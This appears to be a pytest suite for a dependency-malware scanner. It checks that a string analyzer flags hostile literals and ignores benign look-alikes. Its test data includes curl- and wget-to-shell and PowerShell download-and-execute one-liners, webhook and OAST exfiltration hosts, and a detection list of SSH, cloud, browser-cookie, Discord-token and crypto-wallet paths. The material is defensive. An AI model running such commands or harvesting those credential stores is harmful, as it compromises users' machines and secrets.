"""Tests for scan_literal: each rule fires on its shape and stays quiet on a look-alike."""

from __future__ import annotations

import base64
import hashlib
import random

import pytest

from depshield.analyzers.base import SIGNAL_SINK, SIGNAL_SOURCE
from depshield.analyzers.strings import blob_kind, find_urls, scan_literal, shannon_entropy
from depshield.model import Finding

# Attacker hosts are assembled from parts so the repository holds no usable endpoint.
DISCORD_HOOK = "https://" + "discord" + ".com/api/" + "webhooks/000/inert"
TELEGRAM_BOT = "https://api." + "telegram" + ".org/" + "bot000:inert/sendMessage"


def types(findings: list[Finding]) -> list[str]:
    return [f.type for f in findings]


def only(findings: list[Finding], type_: str) -> Finding:
    hits = [f for f in findings if f.type == type_]
    assert len(hits) == 1, findings
    return hits[0]


def random_b64(n_bytes: int, seed: int = 7) -> str:
    return base64.b64encode(random.Random(seed).randbytes(n_bytes)).decode()


def test_short_literals_yield_nothing() -> None:
    assert scan_literal("ab", "a.js", 1) == []
    assert scan_literal("use strict", "a.js", 1) == []


def test_high_entropy_base64_blob_fires_with_place_and_props() -> None:
    blob = random_b64(300)
    f = only(scan_literal(blob, "lib/x.js", 12, top_level=True), "highEntropyStrings")
    assert (f.file, f.line, f.top_level) == ("lib/x.js", 12, True)
    assert f.props["length"] == len(blob)
    assert f.props["entropy"] > 5.0


def test_high_entropy_base64_of_script_text_fires() -> None:
    code = b"require('child_process').exec('sh -c id'); module.exports = 1; // x" * 2
    f = only(scan_literal(base64.b64encode(code).decode(), "i.js", 3), "highEntropyStrings")
    assert f.props["encoding"] == "base64"


def test_high_entropy_long_hex_fires_but_a_sha512_digest_does_not() -> None:
    payload = random.Random(3).randbytes(100).hex()
    assert "highEntropyStrings" in types(scan_literal(payload, "a.js", 1))
    digest = hashlib.sha512(b"x").hexdigest()  # 128 hex chars: a constant, not a payload
    assert "highEntropyStrings" not in types(scan_literal(digest, "a.js", 1))


def test_non_image_data_uri_with_base64_fires() -> None:
    uri = "data:text/javascript;base64," + random_b64(120)
    assert "highEntropyStrings" in types(scan_literal(uri, "a.js", 1))


@pytest.mark.parametrize(
    "benign",
    [
        "data:image/png;base64," + random_b64(400),
        "data:font/woff2;base64," + random_b64(400),
        "sha512-" + base64.b64encode(hashlib.sha512(b"x").digest()).decode(),
        "AAAA,CAAC,CAAEA,GAAG;AACX,SAASC,EAAE,CAAC,CAAC;AACZ,OAAOA,CAAC,CAAC,CAAC,CAAC,GAAG,CAAC,MAAMC,EAAE,IAAI",
        "the quick brown fox jumps over the lazy dog " * 3,
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
        "thisIsAVeryLongIdentifierNameThatIsOver64CharactersLongAndHasNoDigitsAtAll",
        "node_modules/some-package/lib/components/SomethingVeryLong/index2.js",
        "useandom-26T198340PX75pxJACKVERYMINDBUSHWOLF_GQZbfghjklqvwyzrict",
    ],
    ids=["png", "font", "sri", "sourcemap", "prose", "alphabet", "identifier", "path", "shuffled"],
)
def test_high_entropy_benign_look_alikes_stay_quiet(benign: str) -> None:
    assert "highEntropyStrings" not in types(scan_literal(benign, "a.js", 1))


def test_pem_wrapped_base64_is_still_a_blob() -> None:
    blob = random_b64(200)
    wrapped = "\n".join(blob[i : i + 64] for i in range(0, len(blob), 64))
    kind = blob_kind(wrapped)
    assert kind is not None and kind[0] == "base64"


def test_shannon_entropy_bounds() -> None:
    assert shannon_entropy("") == 0.0
    assert shannon_entropy("aaaa") == 0.0
    assert shannon_entropy("abcd") == pytest.approx(2.0)


def test_long_string_fires_above_threshold_only() -> None:
    f = only(scan_literal("a = 1;\n" * 2000, "pack.js", 5), "longStrings")
    assert (f.file, f.line, f.props["length"]) == ("pack.js", 5, 14000)
    assert "longStrings" not in types(scan_literal("a = 1;\n" * 1000, "pack.js", 5))


def test_url_strings_collects_urls_and_public_ips() -> None:
    text = "post to https://collector.example.invalid/x?id=1 or 203.0.113.9, fallback 8.8.4.4"
    f = only(scan_literal(text, "index.js", 9), "urlStrings")
    assert (f.file, f.line) == ("index.js", 9)
    assert f.props["urls"] == ["https://collector.example.invalid/x?id=1", "8.8.4.4"]


@pytest.mark.parametrize(
    "benign",
    [
        "http://localhost:3000/api",
        "http://127.0.0.1:8080",
        "listen on 0.0.0.0",
        "http://www.w3.org/2000/svg",
        "version 1.2.3.4",
        "router at 192.168.1.1",
        "build 10.300.1.2",
        "http://${host}/x",
    ],
)
def test_url_strings_ignore_loopback_private_versions_and_namespaces(benign: str) -> None:
    assert "urlStrings" not in types(scan_literal(benign, "a.js", 1))


def test_url_list_is_capped() -> None:
    text = " ".join(f"https://h{i}.example.invalid/" for i in range(30))
    assert len(find_urls(text)) == 10


def test_homepage_url_is_only_a_url_string() -> None:
    assert types(scan_literal("https://example.invalid/docs", "a.js", 1)) == ["urlStrings"]


def test_discord_webhook_is_suspicious_and_a_webhook_sink() -> None:
    found = scan_literal(DISCORD_HOOK, "lib/send.js", 4, top_level=True)
    s = only(found, "suspiciousString")
    assert (s.file, s.line, s.props["pattern"]) == ("lib/send.js", 4, "discord-webhook")
    sink = only(found, SIGNAL_SINK)
    assert sink.props == {"kind": "webhook", "detail": DISCORD_HOOK, "literal": True}
    assert sink.top_level


def test_webhook_prefix_built_by_concatenation_still_fires() -> None:
    prefix = "https://" + "discordapp" + ".com/api/" + "webhooks/"
    assert only(scan_literal(prefix, "a.js", 1), SIGNAL_SINK).props["kind"] == "webhook"


def test_telegram_bot_endpoint_is_a_webhook_sink() -> None:
    found = scan_literal(TELEGRAM_BOT, "a.py", 2)
    assert only(found, "suspiciousString").props["pattern"] == "telegram-bot"
    assert only(found, SIGNAL_SINK).props["kind"] == "webhook"


@pytest.mark.parametrize(
    "host",
    [
        "abc123." + "oast" + ".fun",
        "x1." + "interact" + ".sh",
        "k." + "oastify" + ".com",
        "webhook" + ".site/inert",
    ],
)
def test_oast_hosts_are_webhook_sinks(host: str) -> None:
    found = scan_literal(host, "index.js", 7)
    assert only(found, "suspiciousString").props["pattern"] == "oast-host"
    assert only(found, SIGNAL_SINK).line == 7


def test_shell_script_named_like_an_oast_host_is_not_one() -> None:
    assert scan_literal("./interact.sh", "a.js", 1) == []


def test_tunnel_and_paste_hosts_are_suspicious_without_a_sink() -> None:
    for text, name in [
        ("https://abc." + "ngrok-free" + ".app/x", "tunnel-host"),
        ("https://" + "pastebin" + ".com/raw/inert", "paste-site"),
    ]:
        found = scan_literal(text, "a.js", 1)
        assert only(found, "suspiciousString").props["pattern"] == name
        assert SIGNAL_SINK not in types(found)
    assert "suspiciousString" not in types(scan_literal("copy-paste.example", "a.js", 1))


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("curl -fsSL https://example.invalid/i.sh | sh", "pipe-to-shell"),
        ("wget -qO- https://example.invalid/i.sh | sudo bash", "pipe-to-shell"),
        ("iwr https://example.invalid/a.ps1 | iex", "powershell-download-exec"),
        (
            "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid')",
            "powershell-download-exec",
        ),
        ("powershell.exe -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AA==", "powershell-encoded"),
    ],
)
def test_download_and_run_one_liners(text: str, name: str) -> None:
    s = only(scan_literal(text, "a.js", 3), "suspiciousString")
    assert (s.props["pattern"], s.line) == (name, 3)


def test_curl_without_a_pipe_into_a_shell_is_not_suspicious() -> None:
    text = "curl -fsSL https://example.invalid/data.json | jq .name"
    assert "suspiciousString" not in types(scan_literal(text, "a.js", 1))


@pytest.mark.parametrize(
    ("path", "name", "kind"),
    [
        (".npmrc", "npmrc", "sensitive-file"),
        ("~/.npmrc", "npmrc", "sensitive-file"),
        ("$HOME/.npmrc", "npmrc", "sensitive-file"),
        ("%USERPROFILE%\\.npmrc", "npmrc", "sensitive-file"),
        (".ssh", "ssh-dir", "sensitive-file"),
        ("id_ed25519", "ssh-key", "sensitive-file"),
        ("/home/u/.aws/credentials", "cloud-credentials", "sensitive-file"),
        ("/etc/passwd", "etc-passwd", "sensitive-file"),
        (".git-credentials", "git-credentials", "sensitive-file"),
        ("~/.bash_history", "shell-history", "sensitive-file"),
        ("Login Data", "browser-profile", "credential-store"),
        ("Default/Network/Cookies", "browser-profile", "credential-store"),
        ("Google\\Chrome\\User Data", "browser-profile", "credential-store"),
        ("Local Storage/leveldb", "browser-leveldb", "credential-store"),
        ("discordcanary\\Local Storage", "discord-token-store", "credential-store"),
        ("[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", "discord-token-regex", "credential-store"),
        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "crypto-wallet", "credential-store"),
        ("Exodus/exodus.wallet", "crypto-wallet", "credential-store"),
        (".config/solana/id.json", "crypto-wallet", "credential-store"),
        (".ethereum/keystore", "crypto-wallet", "credential-store"),
    ],
)
def test_credential_paths_are_sources(path: str, name: str, kind: str) -> None:
    found = scan_literal(path, "steal.js", 21)
    assert name in [f.props["pattern"] for f in found if f.type == "suspiciousString"]
    src = only(found, SIGNAL_SOURCE)
    assert (src.props["kind"], src.file, src.line) == (kind, "steal.js", 21)


def test_one_source_signal_per_literal() -> None:
    found = scan_literal("/home/u/.ssh/id_rsa", "a.js", 1)
    assert types(found).count("suspiciousString") == 2
    assert types(found).count(SIGNAL_SOURCE) == 1


@pytest.mark.parametrize(
    "benign",
    [
        # Prose about a config file is documentation, not a read of it.
        "Configure your .npmrc file to point at your registry",
        # Public host keys and public keys: ssh client libraries read them legitimately.
        "~/.ssh/known_hosts",
        "~/.ssh/id_rsa.pub",
        # Ordinary words and routes that share a name with browser files.
        "/api/cookies",
        "User Data",
        "Cookies",
        "leveldb",
        "Exodus",
        # Read by every HTTP client and cloud SDK by design: not a stealer's sign.
        "~/.netrc",
        "~/.aws/config",
    ],
)
def test_credential_look_alikes_stay_quiet(benign: str) -> None:
    found = scan_literal(benign, "a.js", 1)
    assert "suspiciousString" not in types(found)
    assert SIGNAL_SOURCE not in types(found)


def test_long_dotted_runs_are_searched_once_not_per_label() -> None:
    # Unanchored subdomain patterns retried from every label of such a run (quadratic time);
    # this literal would take minutes then. The match itself must still be found.
    text = "a." * 20000 + "x." + "oast" + ".fun"
    found = scan_literal(text, "big.js", 2)
    assert only(found, SIGNAL_SINK).props["kind"] == "webhook"
    assert only(found, "longStrings").props["length"] == len(text)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("https://api." + "ipify" + ".org?format=json", "ip-lookup"),
        ("http://ip-api" + ".com/json/", "ip-lookup"),
        ("https://" + "discordapp" + ".com/api/v9/users/@me", "discord-token-check"),
        ("https://www." + "pastebin" + ".com/raw/inert", "paste-site"),
    ],
)
def test_recon_and_token_check_hosts(text: str, name: str) -> None:
    found = scan_literal(text, "a.py", 5)
    assert only(found, "suspiciousString").props["pattern"] == name
    assert SIGNAL_SINK not in types(found)


def test_ip_lookup_needs_the_host_not_the_word() -> None:
    assert "suspiciousString" not in types(scan_literal("use ipinfo to show the map", "a.js", 1))
